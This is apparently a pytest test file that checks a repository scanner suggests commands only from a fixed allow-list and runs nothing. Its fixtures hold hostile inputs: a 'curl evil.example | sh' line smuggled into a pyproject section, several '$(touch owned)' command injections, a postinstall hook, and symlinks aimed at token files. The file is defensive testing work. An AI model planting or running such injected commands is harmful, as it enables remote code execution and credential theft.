"""What the files of a repository suggest: commands of a fixed list, whatever the files say; nothing is run."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from disputatio.app.hooks.suggestions import environments, suggestions
from disputatio.debate.hooks import command_of
from disputatio.repository.source_tree import open_tree
from disputatio.testing.repositories import commit


def suggested(folder: Path, **files: str) -> list[str]:
    commit(folder, {name.replace("__", "."): text for name, text in files.items()} or {"a": "b"})
    return [each.command.written for each in suggestions(open_tree(folder))]


@pytest.mark.parametrize(
    ("files", "lines"),
    [
        ({"pyproject__toml": "[tool.pytest.ini_options]\n[tool.mypy]\nstrict = true\n"},
         ["tests: python3 -m pytest -q --junitxml={report}", "types: mypy ."]),
        ({"pyproject__toml": "[tool.ruff]\n", "ruff__toml": ""},
         ["lint: ruff check --no-cache --output-format=sarif --output-file={report} .",
          "format: ruff format --no-cache --diff ."]),
        ({"setup__cfg": "[tool:pytest]\n[flake8]\n"},
         ["tests: python3 -m pytest -q --junitxml={report}", "lint: flake8 ."]),
        ({"tox__ini": "[tox]\n[testenv:py311]\n"}, ["tests: tox -q"]),
        ({"package__json": json.dumps({"scripts": {"test": "jest", "lint": "eslint", "deploy": "x"}})},
         ["tests: npm run test", "lint: npm run lint"]),
        ({"Makefile": "all: x\ntest: all\n\tpytest\nbench:\nVAR := 3\n"},
         ["tests: make test", "benchmark: make bench"]),
        ({"_pre-commit-config__yaml".replace("_", ".", 1): "- id: ruff-format\n  - id: mypy\n  - id: 'bandit'\n"},
         ["lint: ruff check --no-cache --output-format=sarif --output-file={report} .",
          "format: ruff format --no-cache --diff .", "types: mypy .", "scan: bandit -q -r ."]),
        ({"Cargo__toml": "", "go__mod": ""},
         ["tests: cargo test --offline", "lint: cargo clippy --offline", "tests: go test ./...",
          "analysis: go vet ./..."]),
        ({"README__md": "run `make test`"}, []),
    ],
    ids=["pytest and mypy", "ruff", "setup.cfg", "tox", "npm", "make", "pre-commit", "cargo and go", "prose"],
)  # fmt: skip
def test_a_known_file_suggests_commands_of_a_fixed_list(
    tmp_path: Path, files: dict[str, str], lines: list[str]
) -> None:
    found = suggested(tmp_path, **files)
    assert found == lines
    assert [command_of(line).written for line in found] == lines


@pytest.mark.parametrize(
    "files",
    [
        {"pyproject__toml": "[tool.'x; curl evil.example | sh']\n[tool.pytest]\naddopts = '--evil'\n"},
        {"pyproject__toml": "[tool"},
        {"package__json": json.dumps({"scripts": {"$(touch owned)": "x", "postinstall": "touch owned"}})},
        {"package__json": "[" * 100_000},
        {"package__json": '{"scripts": ["test"]}'},
        {"Makefile": "$(shell touch owned):\ntest;touch owned:\n" + "x" * 100},
        {"tox__ini": "[testenv; touch owned]\n"},
        {"setup__cfg": "\x00[pytest]"},
    ],
    ids=range(8),
)
def test_a_hostile_file_makes_nobody_run_anything_else(tmp_path: Path, files: dict[str, str]) -> None:
    lines = suggested(tmp_path, **files)
    assert set(lines) <= {"tests: python3 -m pytest -q --junitxml={report}"}
    assert not (tmp_path / "owned").exists()


@pytest.mark.parametrize("text", ["\n" * 400_000, " " * 400_000, "- \n" * 100_000, "id:\n" * 100_000], ids=range(4))
def test_a_file_full_of_nothing_is_read_in_a_moment(tmp_path: Path, text: str) -> None:
    names = (".pre-commit-config.yaml", "Makefile", "tox.ini")
    began = time.process_time()
    assert suggested(tmp_path, **dict.fromkeys(names, text)) == []
    assert time.process_time() - began < 5


def test_where_the_tools_of_a_project_live(tmp_path: Path) -> None:
    (tmp_path / "elsewhere" / "bin").mkdir(parents=True)
    (tmp_path / "elsewhere" / "bin" / "python3").write_text("", "utf-8")
    (tmp_path / ".venv" / "bin").mkdir(parents=True)
    (tmp_path / ".venv" / "pyvenv.cfg").write_text("", "utf-8")
    (tmp_path / ".venv" / "bin" / "python3").symlink_to(tmp_path / "elsewhere" / "bin" / "python3")
    (tmp_path / "node_modules").mkdir()
    own = [str(tmp_path / name) for name in (".venv", "node_modules", "elsewhere")]
    assert environments(str(tmp_path)) == own
    assert environments(str(tmp_path), own[:1]) == own[1:]
    assert environments(str(tmp_path / "nowhere")) == []


def test_a_link_that_came_with_a_repository_is_no_place_of_tools(tmp_path: Path) -> None:
    for name in ("keys", "shop"):
        (tmp_path / name).mkdir()
    (tmp_path / "keys" / "pyvenv.cfg").write_text("", "utf-8")
    for name in (".venv", "node_modules"):
        (tmp_path / "shop" / name).symlink_to(tmp_path / "keys")
    (tmp_path / "shop" / "venv").mkdir()  # a folder of that name is no environment yet
    assert environments(str(tmp_path / "shop")) == []


def test_a_python_that_came_with_a_repository_opens_no_folder_of_the_person(tmp_path: Path) -> None:
    for name in (".config/gh/hosts.yml", ".config/bin/secrets.yml"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("token", "utf-8")
    bin = tmp_path / "shop" / ".venv" / "bin"
    bin.mkdir(parents=True)
    (bin.parent / "pyvenv.cfg").write_text("", "utf-8")
    for name in (".config/gh/hosts.yml", ".config/bin/secrets.yml"):
        (bin / "python3").unlink(missing_ok=True)
        (bin / "python3").symlink_to(tmp_path / name)
        assert environments(str(tmp_path / "shop")) == [str(bin.parent)]
